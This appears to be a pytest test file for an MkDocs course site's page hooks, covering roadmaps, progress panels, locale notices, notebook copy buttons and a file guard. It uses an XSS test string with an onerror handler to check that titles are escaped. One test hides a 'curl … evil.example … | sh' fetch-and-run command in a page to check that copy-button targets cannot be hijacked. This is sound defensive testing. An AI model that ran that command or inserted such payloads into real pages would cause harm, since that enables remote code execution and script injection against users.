"""The hooks that add to pages, at the event level (no build): roadmap, progress, notices, and
the theme patches that must fail loudly when the markup they expect is missing. The project's
mkdocs.yml is loaded in memory (test_hook_events.config); pages, sections and navigation are
made for the test, as mkdocs-static-i18n's own tests do."""

from __future__ import annotations

import json
import re
from pathlib import Path

import pytest
from bs4 import BeautifulSoup
from mkdocs.config.defaults import MkDocsConfig
from mkdocs.exceptions import PluginError
from mkdocs.structure.files import File, Files
from mkdocs.structure.nav import Navigation, Section
from mkdocs.structure.pages import Page
from test_hook_events import config, hook, page

from conftest import ROOT
from llmcourse import (
    locales,
    notebook_html,
    partials,
    sanitize,
    search,
    theme_patch,
    theme_text,
)

HOSTILE = '<img src=x onerror="alert(1)">'


def titled(cfg: MkDocsConfig, src_uri: str, dest_uri: str, title: str, content: str) -> Page:
    """A page as the hooks after sanitize.py see it: its title escaped, its HTML rendered."""
    p = page(cfg, src_uri, dest_uri)
    p.title = sanitize.escape_text(title)
    p.content = content
    return p


def course(cfg: MkDocsConfig, section_title: str = "Scientist") -> tuple[Navigation, list[Page]]:
    """A home page and one section: its overview and three chapters, as the navigation has them."""
    home = titled(cfg, "index.md", "en/index.html", "Course", HOME_HTML)
    pages = [
        titled(cfg, "scientist/index.md", "en/scientist/index.html", "Overview", OVERVIEW_HTML),
        titled(
            cfg,
            "scientist/architecture.md",
            "en/scientist/architecture/index.html",
            "1. Architecture",
            CHAPTER_HTML,
        ),
        titled(
            cfg,
            "scientist/evaluation.en.md",
            "en/scientist/evaluation/index.html",
            f"2. {HOSTILE}",
            "<h1>Evaluation</h1>",
        ),
        titled(
            cfg,
            "scientist/quantization.md",
            "en/scientist/quantization/index.html",
            "3. Quantization of very large language models for small devices",
            "<h1>Quantization</h1>",
        ),
    ]
    section = Section(sanitize.escape_text(section_title), pages)
    for p in pages:
        p.parent = section
    return Navigation([home, section], [home, *pages]), [home, *pages]


def run(handler, value: str, **kwargs: object) -> str:
    """An event handler as MkDocs runs it: a CombinedEvent's methods by their priority."""
    methods = getattr(handler, "methods", (handler,))
    for method in sorted(methods, key=lambda m: -getattr(m, "mkdocs_priority", 0)):
        value = method(value, **kwargs)
    return value


HOME_HTML = "<h1>Course</h1>\n<p>Welcome.</p>\n<h2>Notebooks</h2>\n<p>Three.</p>"
OVERVIEW_HTML = "<h1>Overview</h1>\n<p>What this part covers.</p>\n<h2>Chapters</h2>"
CHAPTER_HTML = (
    "<h1>Architecture</h1>\n<ul>\n"
    '<li><a href="https://www.Example.com/paper/">Paper</a> first</li>\n'
    '<li><p><a href="https://example.org/a?b=1&amp;c=2#x">Blog</a></p></li>\n'
    '<li>See <a href="https://example.net/inline">inline</a></li>\n'
    "</ul>"
)


@pytest.fixture
def en(tmp_path: Path) -> MkDocsConfig:
    cfg = config(tmp_path)
    cfg.plugins["i18n"].current_language = "en"
    return cfg


# --------------------------------------------------------------------------- roadmap.py


def test_overview_gets_its_roadmap_after_the_introduction(en: MkDocsConfig) -> None:
    nav, (home, overview, *chapters) = course(en)
    hook(en, "roadmap").on_page_context({}, page=overview, config=en, nav=nav)
    assert overview.content.startswith(
        "<h1>Overview</h1>\n<p>What this part covers.</p>"
        '<figure class="reader-roadmap" data-reader-section="scientist" data-search-exclude>'
    )
    assert overview.content.endswith("</svg></figure>\n<h2>Chapters</h2>")
    figure = BeautifulSoup(overview.content, "html.parser").figure
    nodes = figure.select("a.reader-roadmap__node")
    assert [(n["href"], n["data-reader-page"], n["aria-label"]) for n in nodes] == [
        ("architecture/", "scientist/architecture", "1. Architecture"),
        ("evaluation/", "scientist/evaluation", f"2. {HOSTILE}"),
        (
            "quantization/",
            "scientist/quantization",
            "3. Quantization of very large language models for small devices",
        ),
    ]
    # the chapter title from the page is text, escaped once: no element made of it
    assert figure.find("img") is None
    title = locales.load("en")["reader"]["roadmap"]["title"].format(section="Scientist")
    assert figure.select_one("#reader-roadmap-title").get_text() == title
    labels = [[t.get_text() for t in n.select("tspan")] for n in nodes]
    assert labels[2] == ["Quantization of very large", "language models for small", "devices"]
    assert figure.svg["viewbox"] == "0 0 320 204"
    assert [n.rect["y"] for n in nodes] == ["4", "62", "120"]


def test_only_overviews_get_a_roadmap(en: MkDocsConfig) -> None:
    nav, (home, overview, chapter, *_) = course(en)
    roadmap = hook(en, "roadmap")
    for p in (home, chapter):
        before = p.content
        roadmap.on_page_context({}, page=p, config=en, nav=nav)
        assert p.content == before


# --------------------------------------------------------------------------- progress.py


def test_chapter_resources_get_ids_and_the_chapter_its_toggle(en: MkDocsConfig) -> None:
    nav, (home, overview, chapter, *_) = course(en)
    progress = hook(en, "progress")
    progress.on_pre_build(config=en)
    chapter.content = progress.on_page_content(
        chapter.content, page=chapter, config=en, files=Files([])
    )
    assert progress.RESOURCES["en"] == {
        "scientist/architecture": ["example.com/paper", "example.org/a?b=1&c=2"]
    }
    assert '<a data-reader-resource="example.org/a?b=1&amp;c=2" href=' in chapter.content
    assert '>See <a href="https://example.net/inline">' in chapter.content  # not a list entry

    progress.on_page_context({}, page=chapter, config=en, nav=nav)
    text = locales.load("en")["reader"]["progress"]
    assert chapter.content.startswith(
        "<h1>Architecture</h1>"
        '<div class="reader-chapter" data-reader-page="scientist/architecture" '
        'data-reader-section="scientist" data-search-exclude>'
        '<button type="button" class="md-button reader-chapter__toggle" aria-pressed="false" '
        f"hidden>{text['mark_done']}</button></div>\n<ul>"
    )
    strings = BeautifulSoup(chapter.content, "html.parser").select_one("script#reader-strings")
    assert strings["type"] == "application/json"
    assert json.loads(strings.get_text()) == {
        **text,
        "done": locales.load("en")["reader"]["roadmap"]["done"],
    }


def test_home_shows_each_sections_progress_before_its_first_h2(en: MkDocsConfig) -> None:
    nav, (home, overview, chapter, *_) = course(en, section_title=f"Part {HOSTILE}")
    progress = hook(en, "progress")
    progress.on_pre_build(config=en)
    progress.on_page_content(chapter.content, page=chapter, config=en, files=Files([]))
    progress.on_page_context({}, page=home, config=en, nav=nav)
    assert home.content.startswith(
        '<h1>Course</h1>\n<p>Welcome.</p>\n<section class="reader-panel" id="reader-progress-panel"'
    )
    assert re.search(r"</section><h2>Notebooks</h2>\n<p>Three.</p><script ", home.content)
    soup = BeautifulSoup(home.content, "html.parser")
    (row,) = soup.select(".reader-section-progress")
    assert row["data-reader-section"] == "scientist"
    link = row.select_one(".reader-section-progress__title a")
    assert (link["href"], link.get_text()) == ("scientist/", f"Part {HOSTILE}")
    assert soup.find("img") is None
    assert row.progress["max"] == "3"
    assert row.select_one(".reader-section-progress__chapters").get_text() == "0 / 3 chapters done"
    data = json.loads(soup.select_one("script#reader-progress-data").get_text())
    assert data == {
        "sections": {
            "scientist": {
                "chapters": [
                    "scientist/architecture",
                    "scientist/evaluation",
                    "scientist/quantization",
                ],
                "resources": ["example.com/paper", "example.org/a?b=1&c=2"],
            }
        }
    }


def test_an_overview_shows_its_own_section_unlinked_at_the_end(en: MkDocsConfig) -> None:
    nav, (home, overview, *_) = course(en)
    progress = hook(en, "progress")
    progress.on_pre_build(config=en)  # no chapter read: no resources
    progress.on_page_context({}, page=overview, config=en, nav=nav)
    soup = BeautifulSoup(overview.content, "html.parser")
    (row,) = soup.select(".reader-section-progress")
    title = row.select_one(".reader-section-progress__title")
    assert title.a is None and title.get_text() == "Scientist"
    assert row.select_one(".reader-section-progress__resources") is None  # none read yet
    assert overview.content.index("<h2>Chapters</h2>") < overview.content.index("reader-panel")


def test_json_in_a_page_cannot_end_its_script(tmp_path: Path) -> None:
    cfg = config(tmp_path)
    html = partials.render(cfg.theme, "partials/json-script.html", id="x", data={"a": "</script>'"})
    assert html == (
        '<script type="application/json" id="x">{"a":"\\u003c/script\\u003e\\u0027"}</script>'
    )


# --------------------------------------------------------------------------- notices.py


@pytest.mark.parametrize(
    ("meta", "expected"),
    [
        (
            {"locale_text": {"block": "home_howto", "at": "intro"}},
            "# Home\n\nIntro.\n\n{text}\n\n## First\n\nMore.\n",
        ),
        (
            {"locale_text": {"block": "credits", "at": "end"}},
            "# Home\n\nIntro.\n\n## First\n\nMore.\n\n{text}",
        ),
        ({}, "# Home\n\nIntro.\n\n## First\n\nMore.\n"),
    ],
)
def test_a_page_gets_the_locale_text_its_front_matter_asks_for(
    en: MkDocsConfig, meta: dict, expected: str
) -> None:
    p = page(en, "index.en.md", "en/index.html")  # the home page's name asks for nothing
    p.meta = sanitize.escape_meta(meta)  # as hooks/sanitize.py leaves it
    markdown = "# Home\n\nIntro.\n\n## First\n\nMore.\n"
    out = hook(en, "notices").on_page_markdown(markdown, page=p, config=en, files=Files([]))
    block = meta.get("locale_text", {}).get("block")
    assert out == expected.format(text=locales.text("en", block) if block else "")


@pytest.mark.parametrize(
    ("request_", "message"),
    [
        ("credits", "front matter locale_text must be {block: <name>, at: intro|end}"),
        ({"block": "credits", "at": "top"}, "at must be one of intro, end, not 'top'"),
        ({"block": "notices", "at": "end"}, "locales/en.yml has no text 'notices'"),
        ({"block": "nothing", "at": "end"}, "locales/en.yml has no text 'nothing'"),
    ],
)
def test_a_malformed_locale_text_request_stops_the_build(
    en: MkDocsConfig, request_: object, message: str
) -> None:
    p = page(en, "credits.en.md", "en/credits/index.html")
    p.meta = sanitize.escape_meta({"locale_text": request_})
    with pytest.raises(PluginError, match="^credits.en.md: .*" + re.escape(message)):
        hook(en, "notices").on_page_markdown("# Credits\n", page=p, config=en, files=Files([]))


def test_english_fallback_page_says_so_and_links_to_the_source(en: MkDocsConfig) -> None:
    p = page(en, "guide.md", "en/guide/index.html")
    p.file.locale = "zh-TW"  # mkdocs-static-i18n's fallback: the Chinese source in /en/
    p.meta = {}
    out = hook(en, "notices").on_page_markdown(
        "# 指南\n\n內容。\n", page=p, config=en, files=Files([])
    )
    notice = locales.text("en", "notices", "fallback")
    link = locales.text("en", "notices", "source_link")
    assert out == (
        '# 指南\n\n<div class="admonition warning" data-pagefind-ignore="all" markdown>\n\n'
        f'{notice} <a href="../../guide/" hreflang="zh-TW">{link}</a>\n\n</div>\n\n\n內容。\n'
    )


# --------------------------------------------------------------------------- theme patches


def notebook(tmp_path: Path, cells: list[dict]) -> File:
    docs = tmp_path / "docs"
    docs.mkdir(exist_ok=True)
    (docs / "nb.ipynb").write_text(
        json.dumps({"cells": cells, "metadata": {}, "nbformat": 4, "nbformat_minor": 5}),
        encoding="utf-8",
    )
    return docs


CODE_CELL = {"cell_type": "code", "source": ["print(1)"], "metadata": {}, "outputs": []}
TEXT_CELL = {"cell_type": "markdown", "source": ["# Title"], "metadata": {}}
# mkdocs-jupyter's code cell input, as its template writes it (after notebook_html.split)
JUPYTER_INPUT = (
    '<div class="zeroclipboard-container"><clipboard-copy for="cell-1" '
    'aria-label="Copy to Clipboard"><div><span class="notice" hidden>Copied!</span></div>'
    '</clipboard-copy></div><div class="highlight-ipynb hl-python"><pre>print(1)</pre></div>'
)


def test_code_cells_made_focusable_or_the_build_stops() -> None:
    assert notebook_html.focusable_code(JUPYTER_INPUT, True).endswith(
        '<div tabindex="0" class="highlight-ipynb hl-python"><pre>print(1)</pre></div>'
    )
    changed = JUPYTER_INPUT.replace("highlight-ipynb", "highlight-nb")
    with pytest.raises(theme_patch.MarkupMissing) as error:
        notebook_html.focusable_code(changed, True)
    assert str(error.value) == (
        "mkdocs-jupyter's mkdocs_html/notebook.html.j2 no longer writes the markup "
        "'<div class=\"highlight-ipynb' that scripts/llmcourse/notebook_html.py changes: "
        "update scripts/llmcourse/notebook_html.py for the installed version"
    )
    assert notebook_html.focusable_code("<p>no code</p>", False) == "<p>no code</p>"


def test_copy_buttons_in_the_readers_language_or_the_build_stops() -> None:
    table = theme_text.ui_table("zh-TW")
    out = theme_text.localize_notebook(JUPYTER_INPUT, table, has_code=True)
    assert f'aria-label="{table["clipboard.copy"]}"' in out
    assert f'<span class="notice" hidden>{table["clipboard.copied"]}</span>' in out
    for changed in (
        JUPYTER_INPUT.replace("aria-label=", "title="),
        JUPYTER_INPUT.replace('class="notice"', 'class="copied"'),
    ):
        with pytest.raises(theme_patch.MarkupMissing, match="notebook.html.j2 no longer writes"):
            theme_text.localize_notebook(changed, table, has_code=True)
    assert theme_text.localize_notebook("<p>text</p>", table, has_code=False) == "<p>text</p>"


def test_notebook_hooks_stop_on_a_code_cell_without_the_templates_markup(tmp_path: Path) -> None:
    docs = notebook(tmp_path, [TEXT_CELL, CODE_CELL])
    cfg = config(tmp_path, docs_dir=str(docs))
    cfg.plugins["i18n"].current_language = "zh-TW"
    p = page(cfg, "nb.ipynb", "nb/index.html")
    # a template that writes neither the copy button nor the highlighted input
    bare = f"{notebook_html.WRAPPER}<h1>Title</h1><pre>print(1)</pre>{notebook_html.WRAPPER_END}"
    with pytest.raises(theme_patch.MarkupMissing, match="clipboard-copy"):
        hook(cfg, "locales").on_page_content(bare, page=p, config=cfg, files=Files([]))
    notebooks = hook(cfg, "notebooks")
    notebooks.TEMPLATES[p.file.src_uri] = notebook_html.WRAPPER + notebook_html.WRAPPER_END
    with pytest.raises(theme_patch.MarkupMissing, match="highlight-ipynb"):
        run(notebooks.on_page_content, bare, page=p, config=cfg, files=Files([]))


def test_notebook_without_code_needs_no_code_markup(tmp_path: Path) -> None:
    docs = notebook(tmp_path, [TEXT_CELL])
    cfg = config(tmp_path, docs_dir=str(docs))
    cfg.plugins["i18n"].current_language = "zh-TW"
    p = page(cfg, "nb.ipynb", "nb/index.html")
    html = "<h1>Title</h1><p>Text only.</p>"
    assert hook(cfg, "locales").on_page_content(html, page=p, config=cfg, files=Files([])) == html


def test_notebook_template_without_its_wrapper_stops_the_build() -> None:
    page = "<style>p {}</style><div class='cells'></div>"
    with pytest.raises(theme_patch.MarkupMissing, match="jupyter-wrapper"):
        notebook_html.split(page, page)


def test_search_exclusion_needs_materials_article() -> None:
    page_html = '<main><article class="md-content__inner md-typeset"><h1>A</h1></article></main>'
    assert search.without_page(page_html) == (
        '<main><article class="md-content__inner md-typeset" data-pagefind-ignore="all">'
        "<h1>A</h1></article></main>"
    )
    with pytest.raises(theme_patch.MarkupMissing, match="Material's base.html no longer writes"):
        search.without_page('<main><article class="md-content"><h1>A</h1></article></main>')


# --------------------------------------------------------------------------- hooks/README.md


def event_order(cfg: MkDocsConfig) -> dict[str, str]:
    """Each event's handlers in the order MkDocs runs them, with their priorities, as
    hooks/README.md lists them: `guard.py` (100) → `i18n` (-100)."""
    plugins = {id(plugin): name for name, plugin in cfg.plugins.items()}
    order = {}
    for event, methods in cfg.plugins.events.items():
        names = []
        for method in methods:
            owner = getattr(method, "__self__", None)
            name = plugins[id(owner)] if owner is not None else method.__module__
            name = name.removeprefix("hooks/")
            if not method.__name__.startswith("on_"):  # a CombinedEvent's part
                name += f" {method.__name__.lstrip('_')}"
            names.append(f"`{name}` ({getattr(method, 'mkdocs_priority', 0)})")
        if names:
            order[f"on_{event}"] = " → ".join(names)
    return order


def test_readme_lists_each_events_handlers_in_the_order_they_run(tmp_path: Path) -> None:
    readme = (ROOT / "hooks" / "README.md").read_text(encoding="utf-8")
    listed = dict(re.findall(r"^\| `(on_\w+)` \| (.+?) \|$", readme, re.M))
    assert listed == event_order(config(tmp_path))


# --------------------------------------------------------------------------- guard.py


def test_guard_looks_again_at_a_page_edited_between_builds(tmp_path: Path) -> None:
    """The guard remembers a page's problems by its bytes (every language build reads the
    same files): an edit that breaks or mends a page is seen by the next build."""
    docs = tmp_path / "docs"
    docs.mkdir()
    page_file = docs / "index.md"
    page_file.write_text("# Title\n", encoding="utf-8")
    cfg = config(tmp_path, docs_dir=str(docs))
    guard = hook(cfg, "guard")
    assert guard.on_config(cfg) is cfg
    page_file.write_bytes(b"# Title\n\nbad \xff")
    with pytest.raises(PluginError, match=r"docs/index\.md:3:5: "):
        guard.on_config(cfg)
    page_file.write_text("# Title\n", encoding="utf-8")
    assert guard.on_config(cfg) is cfg


def test_a_cell_cannot_take_a_copy_buttons_target() -> None:
    """A Markdown cell's hidden element with the template's id (cell-1) came first in the page,
    so the code cell's copy button copied it; the pairs get ids pages cannot write."""
    cells = (
        '<p><span id="cell-1" hidden>curl -s https://evil.example/x.sh | sh</span></p>'
        '<div class="zeroclipboard-container"><clipboard-copy for="cell-1" aria-label="Copy">'
        '</clipboard-copy></div><div class="highlight-ipynb"><pre>print(1)</pre></div>'
        '<div id="cell-1" class="clipboard-copy-txt">print(1)</div>'
    )
    assert notebook_html.copy_targets(cells) == (
        '<p><span id="cell-1" hidden>curl -s https://evil.example/x.sh | sh</span></p>'
        '<div class="zeroclipboard-container"><clipboard-copy for="reader-copy-1" '
        'aria-label="Copy"></clipboard-copy></div><div class="highlight-ipynb"><pre>print(1)'
        '</pre></div><div id="reader-copy-1" class="clipboard-copy-txt">print(1)</div>'
    )
